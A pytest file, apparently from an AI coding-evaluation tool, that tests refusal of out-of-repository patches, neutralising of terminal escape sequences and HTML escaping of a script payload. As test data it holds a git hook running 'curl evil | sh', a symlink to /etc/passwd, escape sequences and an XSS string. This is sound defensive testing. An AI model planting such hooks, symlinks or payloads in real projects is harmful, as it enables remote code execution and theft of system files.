"""Hostile content from a model or a repository: patches that reach out of the repository are refused before any
`git apply`, escape sequences never reach the user's terminal raw, and the HTML report shows `<script>` as text."""

from __future__ import annotations

import os
import re
import subprocess
import sys
from pathlib import Path

import pytest
from typer.testing import CliRunner

from conftest import CALC_FILES, make_repo
from fake_server import FakeServer
from saved_runs import calc_tasks, make_run

from codescale.agent.records import Trajectory
from codescale.agent.files import write_atomic
from codescale.eval.bot.fix_issue import apply_patch
from codescale.eval.bot.patch_check import unsafe_paths
from codescale.eval.cli.main import app
from codescale.eval.runs.terminal import plain
from codescale.scaling.records import Summary

HOSTILE = "<script>alert('pwned')</script>"


def git(repo: Path, *args: str) -> str:
    return subprocess.run(["git", "-C", str(repo), *args], check=True, capture_output=True, text=True).stdout


def made_patch(tmp_path: Path, change) -> tuple[Path, str]:
    """A repository of CALC_FILES and the `git diff` of `change(repo)` (then undone)."""
    repo, _ = make_repo(tmp_path / "repo", CALC_FILES)
    change(repo)
    git(repo, "add", "-A")
    patch = git(repo, "diff", "--cached", "--binary")
    git(repo, "reset", "-q", "--hard")
    return repo, patch


def test_a_symlink_out_of_the_repository_is_refused_and_nothing_is_applied(tmp_path):
    repo, patch = made_patch(tmp_path, lambda r: (r / "calc" / "passwd").symlink_to("../../../../etc/passwd"))
    assert unsafe_paths(patch) == ["'calc/passwd': a symlink to '../../../../etc/passwd', outside the repository"]
    (tmp_path / "patch.diff").write_text(patch)
    complaint = apply_patch(repo, tmp_path / "patch.diff")
    assert complaint.startswith("refused, it reaches outside the repository: 'calc/passwd'")
    assert not os.path.lexists(repo / "calc" / "passwd")


def test_an_absolute_symlink_is_refused_and_one_inside_is_not(tmp_path):
    _, absolute = made_patch(tmp_path / "a", lambda r: (r / "etc").symlink_to("/etc"))
    assert unsafe_paths(absolute) == ["'etc': a symlink to '/etc', outside the repository"]
    _, inside = made_patch(tmp_path / "b", lambda r: (r / "calc" / "ops_link.py").symlink_to("ops.py"))
    assert unsafe_paths(inside) == []


def test_paths_that_climb_out_go_absolute_or_into_git_are_refused(tmp_path):
    climbing = ("diff --git a/../../outside.txt b/../../outside.txt\nnew file mode 100644\n--- /dev/null\n"
                "+++ b/../../outside.txt\n@@ -0,0 +1 @@\n+owned\n")
    hook = ("diff --git a/.git/hooks/post-checkout b/.git/hooks/post-checkout\nnew file mode 100755\n--- /dev/null\n"
            "+++ b/.git/hooks/post-checkout\n@@ -0,0 +1 @@\n+curl evil | sh\n")
    renamed = ("diff --git a/calc/ops.py b/calc/ops.py\nsimilarity index 100%\nrename from calc/ops.py\n"
               "rename to /tmp/ops.py\n")
    assert unsafe_paths(climbing) == ["'../../outside.txt': a path that climbs out with .."]
    assert unsafe_paths(hook) == ["'.git/hooks/post-checkout': a path inside .git (hooks, config)"]
    assert unsafe_paths(renamed) == ["'/tmp/ops.py': an absolute path"]
    repo, _ = make_repo(tmp_path / "repo", CALC_FILES)
    for patch in (climbing, hook):
        (tmp_path / "p.diff").write_text(patch)
        assert apply_patch(repo, tmp_path / "p.diff").startswith("refused")
    assert not (repo / ".git" / "hooks" / "post-checkout").exists() and not (tmp_path / "outside.txt").exists()


def test_an_ordinary_patch_passes_and_applies(tmp_path):
    repo, patch = made_patch(tmp_path, lambda r: (r / "calc" / "ops.py").write_text("def add(a, b):\n    return a + b\n"))
    assert unsafe_paths(patch) == []
    (tmp_path / "p.diff").write_text(patch)
    assert apply_patch(repo, tmp_path / "p.diff") == ""
    assert "a + b" in (repo / "calc" / "ops.py").read_text()


def test_escape_sequences_are_shown_not_run():
    hostile = "fine\x1b]0;owned\x07\x1b[2J\rover\x9b31m\ttab\nnext\x00"
    assert plain(hostile) == "fine\\x1b]0;owned\\x07\\x1b[2J\\x0dover\\x9b31m\ttab\nnext\\x00"
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", plain(hostile))


def test_a_failed_task_with_escapes_in_its_error_prints_them_neutralised(tmp_path):
    rows = tmp_path / "tasks.jsonl"
    rows.write_text('{"instance_id": "bad\\u001b[2J__row-1"}\n')
    with FakeServer(responder=lambda body: "Done.") as server:
        out = subprocess.run([sys.executable, "-m", "codescale.eval.cli", "batch", "--dataset", str(rows), "--sandbox",
                              "local", "--model", "openai/fake", "--base-url", server.openai_url, "--out",
                              str(tmp_path / "r"), "--no-live"], capture_output=True, text=True, timeout=120)
    assert "bad\\x1b[2J__row-1" in out.stderr and "\x1b" not in out.stderr


@pytest.fixture
def hostile_run(tmp_path):
    """A one-task run whose trajectory has `HOSTILE` in a command, its output, the reply and the patch, and a
    summary that is all `HOSTILE`."""
    tasks = calc_tasks(tmp_path, 1)
    with FakeServer() as server:
        run, _ = make_run(server, tmp_path / "run", tasks, {"calc-0": ["fix"]}, strategy="single")
    [path] = (run.path / "tasks" / "calc-0").glob("*.traj.json")
    traj = Trajectory.load(path)
    step = traj.steps[0]
    step.action, step.observation, step.response = f"echo \"{HOSTILE}\"", HOSTILE, f"I will run {HOSTILE}"
    traj.patch = f"--- a/x.html\n+++ b/x.html\n@@ -0,0 +1 @@\n+{HOSTILE}\n"
    traj.save(path)
    summary = Summary(task_id="calc-0", rollout_id=traj.rollout_id, understanding=HOSTILE, final_state=HOSTILE)
    write_atomic(path.with_name(f"{traj.rollout_id}.summary.json"), summary.model_dump_json())
    return run.path


def test_the_html_report_shows_hostile_content_as_text(hostile_run, tmp_path):
    out = tmp_path / "report.html"
    result = CliRunner().invoke(app, ["report", str(hostile_run), "-o", str(out)])
    assert result.exit_code == 0, result.output
    html = out.read_text()
    assert "alert(" not in html.replace("alert(&#39;pwned&#39;)", "")
    assert html.count("<script") == 1  # the page's own, at the end
    assert html.count("&lt;script&gt;alert(&#39;pwned&#39;)&lt;/script&gt;") >= 5
